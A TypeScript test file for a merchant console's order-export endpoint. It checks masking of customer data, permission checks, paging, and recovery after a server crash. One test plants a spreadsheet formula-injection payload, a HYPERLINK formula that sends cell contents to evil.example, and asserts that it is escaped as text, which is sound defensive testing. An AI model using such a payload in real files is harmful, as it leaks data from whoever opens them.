import { spawn } from 'node:child_process';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { ApiPath, Code, type Envelope, type TaskListResult, ENDPOINTS } from '@console/contract';
import { buildApp } from '../../app';
import { cleanupExpiredFiles, sweepStaleTasks } from '../../jobs/task-maintenance';
import { loadServerConfig as loadConfig } from '../../server-config';
import { createOrders } from './create-orders';
import { orderEnvOf } from './list';
import { orders } from './tables';
import { personalDataReveals, tasks } from '../../db/tables';
import { rolePermissions } from '../auth/tables';
import { formatDateTime } from '../../lib/time';
import { createTestApp, type TestApp } from '../../test/test-app';
import { makeGoods } from '../goods/test-support';
import { makeMerchant, signIn } from '../../test/factories';
import { makeOrder, makeOrders, testCustomer, testIdNumber } from './test-support';
import { createExportTask } from '../../jobs/export-tasks';
import { orderExporter } from './exporter';
import { rowsOf, taskFile } from './import/test-support';
import { callServer, freePort } from '../../test/server-process';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const hoursAgo = (h: number) => new Date(Date.now() - h * 3_600_000);

async function merchantWithToken(overrides: Parameters<typeof makeMerchant>[1] = {}) {
  const m = await makeMerchant(t.ctx, overrides);
  return { m, token: await signIn(t.ctx, m.id) };
}

async function exportRows(token: string, payload: Record<string, unknown>, lang = 'zh-CN') {
  const res = await t.call(ENDPOINTS.orderExport, { task_name: '订单导出', ...payload }, { token, lang });
  expect(res.code, res.msg).toBe(Code.ok);
  const { task, workbook } = await taskFile(t, token, res.data.task_id);
  expect(task).toMatchObject({ status: 1, kind: 'orders' });
  const sheet = workbook!.worksheets[0]!;
  return { task, sheet, rows: rowsOf(sheet) };
}

const EN_HEADERS = [
  'Order no.',
  'Created',
  'Goods',
  'Source',
  'Sub-merchant',
  'Customer',
  'Phone',
  'ID number',
  'Address',
  'Status',
  'Failure reason',
  'Upstream no.',
  'Courier',
  'Tracking no.',
  'Activated',
  'First recharge (CNY)',
  'First recharged',
  'Commission (CNY)',
  'Settled',
  'Flag',
  'Remark',
  'Updated',
];

describe('POST /apply/download: the filtered order list as xlsx', () => {
  it('holds the filtered rows of the merchant, masked, newest first, headers in the request language', async () => {
    const { m, token } = await merchantWithToken();
    const g = await makeGoods(t.ctx, m.partnerId, { name: '大王卡', reward: '80.50' });
    const other = await makeGoods(t.ctx, m.partnerId, { name: '小王卡' });
    const rejected = await makeOrder(t.ctx, m.id, {
      goodsId: g.id,
      status: 'rejected',
      reasonCode: 'age_mismatch',
      reason: '',
      createdAt: hoursAgo(3),
      customer: { name: '欧阳娜娜', phone: '13812341234', idNumber: testIdNumber(7), address: '长安街1号' },
    });
    const newer = await makeOrder(t.ctx, m.id, { goodsId: g.id, status: 'rejected', createdAt: hoursAgo(1) });
    await makeOrder(t.ctx, m.id, { goodsId: g.id, status: 'pending', createdAt: hoursAgo(2) });
    await makeOrder(t.ctx, m.id, { goodsId: other.id, status: 'rejected', createdAt: hoursAgo(2) });
    const stranger = await makeMerchant(t.ctx, { partnerId: m.partnerId });
    await makeOrder(t.ctx, stranger.id, { goodsId: g.id, status: 'rejected' });
    await t.ctx.db.update(orders).set({ flag: 2, remark: '回访' }).where(eq(orders.id, rejected.id));

    const { task, sheet, rows } = await exportRows(token, { status: 'rejected', goods_id: g.id }, 'en-US');
    expect(task.rowCount).toBe(2);
    expect(sheet.name).toBe('Orders');
    expect(rows[0]).toEqual(EN_HEADERS);
    expect(rows.slice(1).map((r) => r[0])).toEqual([newer.orderNo, rejected.orderNo]);
    const row = Object.fromEntries(EN_HEADERS.map((h, i) => [h, rows[2]![i] ?? '']));
    const [fresh] = await t.ctx.db.select().from(orders).where(eq(orders.id, rejected.id));
    expect(row).toEqual({
      'Order no.': rejected.orderNo,
      Created: formatDateTime(fresh!.createdAt, 'Asia/Shanghai'),
      Goods: '大王卡',
      Source: 'Store',
      'Sub-merchant': '',
      Customer: '欧**娜',
      Phone: '138****1234',
      'ID number': `110101********${testIdNumber(7).slice(-4)}`,
      Address: '北京市 北京市 东城区',
      Status: 'Rejected',
      'Failure reason': 'Age not eligible',
      'Upstream no.': '',
      Courier: '',
      'Tracking no.': '',
      Activated: '',
      'First recharge (CNY)': '',
      'First recharged': '',
      'Commission (CNY)': '80.50',
      Settled: '',
      Flag: 'Orange',
      Remark: '回访',
      Updated: formatDateTime(fresh!.updatedAt, 'Asia/Shanghai'),
    });
    // Nothing of the customer in clear anywhere in the file.
    const text = JSON.stringify(rows);
    expect(text).not.toContain('欧阳娜娜');
    expect(text).not.toContain('13812341234');
    expect(text).not.toContain('长安街');
    expect(text).not.toContain(testIdNumber(7));
  });

  it('pages through equal creation times in the list’s order without losing a row', async () => {
    t.ctx.exporters.register({ ...orderExporter, kind: 'orders-in-sevens', pageSize: 7 });
    const { m, token } = await merchantWithToken();
    // One transaction: all 30 share one created_at; the id breaks the tie, as in the list.
    await makeOrders(t.ctx, m.id, 30);
    await makeOrders(t.ctx, m.id, 5, { createdAt: hoursAgo(1) });
    const listed = await t.call(ENDPOINTS.orderList, { page_size: 100 }, { token });
    const { task_id } = await createExportTask(
      t.ctx,
      m.id,
      'orders-in-sevens',
      { agent: false },
      'x',
      'zh-CN',
    );
    const { task, workbook } = await taskFile(t, token, task_id);
    expect(task).toMatchObject({ status: 1, rowCount: 35 });
    const rows = rowsOf(workbook!.worksheets[0]!);
    expect(rows.slice(1).map((r) => r[0])).toEqual(listed.data.list.map((o) => o.order_no));
  });

  it('writes the file as it goes: memory holds a page, not the export', async () => {
    const { m, token } = await merchantWithToken();
    const g = await makeGoods(t.ctx, m.partnerId);
    for (let batch = 0; batch < 3; batch++) {
      await t.ctx.db.transaction((tx) =>
        createOrders(
          tx,
          orderEnvOf(t.ctx),
          { merchantId: m.id, goodsId: g.id, source: 'store', historySource: 'system' },
          Array.from({ length: 1000 }, () => ({ customer: testCustomer() })),
        ),
      );
    }
    // Before each page: how much of the file has reached storage (the file being written).
    const dir = path.join(t.dataDir, 'files', 'exports', String(m.id));
    const stored: number[] = [];
    t.ctx.exporters.register({
      ...orderExporter,
      kind: 'orders-probe',
      pageSize: 250,
      fetchPage: async (ctx, merchantId, q, after, limit) => {
        let size = 0;
        for (const f of await fs.readdir(dir).catch(() => [] as string[])) {
          size += (await fs.stat(path.join(dir, f)).catch(() => ({ size: 0 }))).size;
        }
        stored.push(size);
        return orderExporter.fetchPage(ctx, merchantId, q, after, limit);
      },
    });
    const { task_id } = await createExportTask(t.ctx, m.id, 'orders-probe', {}, 'probe', 'zh-CN');
    const { task, workbook } = await taskFile(t, token, task_id);
    expect(task).toMatchObject({ status: 1, rowCount: 3000 });
    expect(rowsOf(workbook!.worksheets[0]!)).toHaveLength(3001);
    // 12 pages of about 25 kB each once packed. The file follows the pages a page or so behind
    // (without the wait for the compressor it lagged most of the export behind on PGlite).
    expect(stored).toHaveLength(13);
    expect(stored[6]).toBeGreaterThan(50 * 1024);
    expect(stored[12]).toBeGreaterThan(160 * 1024);
  });

  it('writes formula-like texts as text, never as formulas', async () => {
    const { m, token } = await merchantWithToken();
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await makeOrder(t.ctx, m.id, { remark: evil, customer: { name: '@SUM(A1)' } });
    await makeOrder(t.ctx, m.id, { remark: '-2+3', customer: { name: '+李' } });
    const { sheet, rows } = await exportRows(token, { full: true });
    const remarks = rows.slice(1).map((r) => r[20]);
    expect(remarks.sort()).toEqual([`'-2+3`, `'${evil}`].sort());
    expect(
      rows
        .slice(1)
        .map((r) => r[5])
        .sort(),
    ).toEqual(["'+李", "'@SUM(A1)"].sort());
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
      }),
    );
  });

  it('writes personal data in full only for a role that may reveal it, and records the reveal', async () => {
    const { m, token } = await merchantWithToken();
    const o = await makeOrder(t.ctx, m.id, {
      customer: { name: '张三丰', phone: '13912345678', idNumber: testIdNumber(9), address: '长安街9号' },
    });
    const { task, rows } = await exportRows(token, { full: true });
    expect(rows[1]!.slice(5, 9)).toEqual([
      '张三丰',
      '13912345678',
      testIdNumber(9),
      '北京市 北京市 东城区 长安街9号',
    ]);
    const reveals = await t.ctx.db
      .select()
      .from(personalDataReveals)
      .where(eq(personalDataReveals.merchantId, m.id));
    expect(reveals).toMatchObject([{ kind: 'export', taskId: task.id, orderId: null, ip: '127.0.0.1' }]);
    expect(o.id).toBeGreaterThan(0);

    // Without `get` on the order permission: refused, no task, no reveal.
    await t.ctx.db
      .update(rolePermissions)
      .set({ actions: ['query', 'export', 'edit'] })
      .where(and(eq(rolePermissions.merchantId, m.id), eq(rolePermissions.permissionId, 'order')));
    const refused = await t.call(ENDPOINTS.orderExport, { task_name: 'x', full: true }, { token });
    expect(refused.code).toBe(Code.forbidden);
    expect(await t.ctx.db.select().from(tasks).where(eq(tasks.merchantId, m.id))).toHaveLength(1);
    expect(
      await t.ctx.db.select().from(personalDataReveals).where(eq(personalDataReveals.merchantId, m.id)),
    ).toHaveLength(1);
    // The masked export is still allowed, and records nothing.
    const masked = await exportRows(token, {});
    expect(masked.rows[1]![6]).toBe('139****5678');
    expect(
      await t.ctx.db.select().from(personalDataReveals).where(eq(personalDataReveals.merchantId, m.id)),
    ).toHaveLength(1);
  });

  it('needs the export action, and checks the filter like the list does', async () => {
    const { m, token } = await merchantWithToken();
    // An unknown status on purpose: untyped (t.post).
    const bad = await t.post(ApiPath.orderExport, { task_name: 'x', status: 'lost' }, { token });
    expect(bad.code).toBe(Code.validation);
    const range = await t.call(
      ENDPOINTS.orderExport,
      { task_name: 'x', start_date: '2026-02-02', end_date: '2026-02-01' },
      { token },
    );
    expect(range.code).toBe(Code.validation);
    const noName = await t.call(ENDPOINTS.orderExport, { task_name: '' }, { token });
    expect(noName.code).toBe(Code.validation);
    await t.ctx.db
      .update(rolePermissions)
      .set({ actions: ['query'] })
      .where(and(eq(rolePermissions.merchantId, m.id), eq(rolePermissions.permissionId, 'order')));
    expect((await t.call(ENDPOINTS.orderExport, { task_name: 'x' }, { token })).code).toBe(Code.forbidden);
    expect(await t.ctx.db.select().from(tasks).where(eq(tasks.merchantId, m.id))).toEqual([]);
  });

  it('takes in an agent’s sub-merchants’ orders (masked even in a full export), as the list does', async () => {
    const { m: agent, token } = await merchantWithToken({ childMerchant: 2 });
    const sub = await makeMerchant(t.ctx, { parentId: agent.id, storeName: '下级一号' });
    const own = await makeOrder(t.ctx, agent.id, {
      createdAt: hoursAgo(2),
      customer: { phone: '13700000001' },
    });
    const subs = await makeOrder(t.ctx, sub.id, {
      agentId: agent.id,
      createdAt: hoursAgo(1),
      customer: { phone: '13700000002' },
    });
    const all = await exportRows(token, { full: true });
    expect(all.rows.slice(1).map((r) => [r[0], r[4] ?? '', r[6]])).toEqual([
      [subs.orderNo, '下级一号', '137****0002'],
      [own.orderNo, '', '13700000001'],
    ]);
    const onlySub = await exportRows(token, { sub_merchant_id: sub.id });
    expect(onlySub.rows.slice(1).map((r) => r[0])).toEqual([subs.orderNo]);
    // The sub-merchant's own export has its order, never the agent's.
    const subToken = await signIn(t.ctx, sub.id);
    const fromSub = await exportRows(subToken, {});
    expect(fromSub.rows.slice(1).map((r) => r[0])).toEqual([subs.orderNo]);
    // Another merchant's id as a sub-merchant is not found (as in every other call), no task made.
    const { token: plain } = await merchantWithToken();
    const none = await t.call(
      ENDPOINTS.orderExport,
      { task_name: 'x', sub_merchant_id: sub.id },
      { token: plain },
    );
    expect(none.code).toBe(Code.notFound);
  });
});

describe('a server killed during an export', () => {
  const serverDir = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../..');

  it('leaves the task failed, not packing', { timeout: 180_000 }, async () => {
    const dataDir = await fs.mkdtemp(path.join(os.tmpdir(), 'console-kill-'));
    const env = {
      NODE_ENV: 'test',
      DATA_DIR: dataDir,
      SEED_DEMO: 'false',
      LOG_LEVEL: 'silent',
      PUBLIC_URL: 'http://console.test',
      WEB_DIST: path.join(dataDir, 'no-web-build'),
    };
    // A database of its own on disk, with enough orders for an export of several seconds.
    const prepared = await buildApp({ config: loadConfig({ ...env, JOBS_WORKER: 'false' }) });
    const m = await makeMerchant(prepared.ctx);
    const g = await makeGoods(prepared.ctx, m.partnerId);
    for (let batch = 0; batch < 10; batch++) {
      await prepared.ctx.db.transaction((tx) =>
        createOrders(
          tx,
          orderEnvOf(prepared.ctx),
          { merchantId: m.id, goodsId: g.id, source: 'store', historySource: 'system' },
          Array.from({ length: 1000 }, () => ({ customer: testCustomer() })),
        ),
      );
    }
    const token = await signIn(prepared.ctx, m.id);
    await prepared.close();

    // The real server in a process of its own, killed (SIGKILL: no shutdown hook runs) mid-export.
    const port = await freePort();
    const child = spawn(process.execPath, ['--import', 'tsx', 'src/main.ts'], {
      cwd: serverDir,
      env: { ...process.env, ...env, PORT: String(port), HOST: '127.0.0.1' },
      stdio: 'ignore',
    });
    const exited = new Promise((resolve) => child.once('exit', resolve));
    const origin = `http://127.0.0.1:${port}`;
    const base = `${origin}/api`;
    let taskId!: number;
    let partial = 0;
    const exportsDir = path.join(dataDir, 'files', 'exports', String(m.id));
    try {
      for (let i = 0; ; i++) {
        const up = await fetch(`${base}/health`).then(
          (r) => r.ok,
          () => false,
        );
        if (up) break;
        if (i > 600) throw new Error('the server did not start');
        await new Promise((r) => setTimeout(r, 100));
      }
      const started = await callServer(origin, ENDPOINTS.orderExport, { task_name: 'killed' }, token);
      expect(started.code).toBe(Code.ok);
      taskId = started.data.task_id;
      // Watched from outside the process: killed once the file being written holds a few pages
      // and the task has said so (its progress is written after a page: on a loaded machine the
      // file ran ahead of it).
      const deadline = Date.now() + 60_000;
      let reported = 0;
      while ((partial < 64 * 1024 || reported === 0) && Date.now() < deadline) {
        for (const f of await fs.readdir(exportsDir).catch(() => [] as string[])) {
          if (f.endsWith('.tmp'))
            partial = (await fs.stat(path.join(exportsDir, f)).catch(() => ({ size: 0 }))).size;
        }
        if (partial >= 64 * 1024) {
          const listed = await callServer(origin, ENDPOINTS.taskList, {}, token);
          reported = listed.data?.list.find((t) => t.id === taskId)?.rows ?? 0;
        }
        await new Promise((r) => setTimeout(r, 2));
      }
    } finally {
      child.kill('SIGKILL');
      await exited;
    }
    expect(partial).toBeGreaterThanOrEqual(64 * 1024);

    // Restarted: the task is not left packing for ever. Its heartbeat is still recent at the
    // start, so two minutes later (moved back here) the sweeper fails it.
    const restarted = await buildApp({ config: loadConfig(env) });
    try {
      const [after] = await restarted.ctx.db.select().from(tasks).where(eq(tasks.id, taskId));
      expect(after).toMatchObject({ status: 3, storageKey: null });
      expect(after!.rowCount).toBeGreaterThan(0); // it was killed half-way
      expect(after!.rowCount).toBeLessThan(10_000);
      await restarted.ctx.db
        .update(tasks)
        .set({ heartbeatAt: sql`now() - interval '3 minutes'` })
        .where(eq(tasks.id, taskId));
      expect(await sweepStaleTasks(restarted.ctx, { info: () => undefined, warn: () => undefined })).toEqual([
        taskId,
      ]);
      const [swept] = await restarted.ctx.db.select().from(tasks).where(eq(tasks.id, taskId));
      expect(swept).toMatchObject({ status: 4, errorKey: 'task.err_stalled', storageKey: null });
      const res = await restarted.inject({
        method: 'POST',
        url: `/api${ApiPath.taskList}`,
        payload: {},
        headers: { token, 'accept-language': 'en-US' },
      });
      expect(res.json<Envelope<TaskListResult>>().data.list[0]).toMatchObject({
        id: taskId,
        status: 4,
        url: '',
        error: 'The export stopped responding. Please export again',
      });
      // No finished file of it, only the partial one the killed process was writing: the hourly
      // cleanup removes it once untouched for an hour (moved back here).
      const exportsOf = () => fs.readdir(exportsDir).catch(() => [] as string[]);
      const partials = (await exportsOf()).filter((f) => f.endsWith('.tmp'));
      expect(partials).toHaveLength(1);
      expect((await exportsOf()).filter((f) => f.endsWith('.xlsx'))).toEqual([]);
      const quiet = () => undefined;
      await cleanupExpiredFiles(restarted.ctx, { info: quiet, warn: quiet });
      expect(await exportsOf()).toEqual(partials); // still recent: it could be a live write
      const twoHoursAgo = new Date(Date.now() - 2 * 3_600_000);
      await fs.utimes(path.join(exportsDir, partials[0]!), twoHoursAgo, twoHoursAgo);
      await cleanupExpiredFiles(restarted.ctx, { info: quiet, warn: quiet });
      expect(await exportsOf()).toEqual([]);
    } finally {
      await restarted.close();
      await fs.rm(dataDir, { recursive: true, force: true });
    }
  });
});
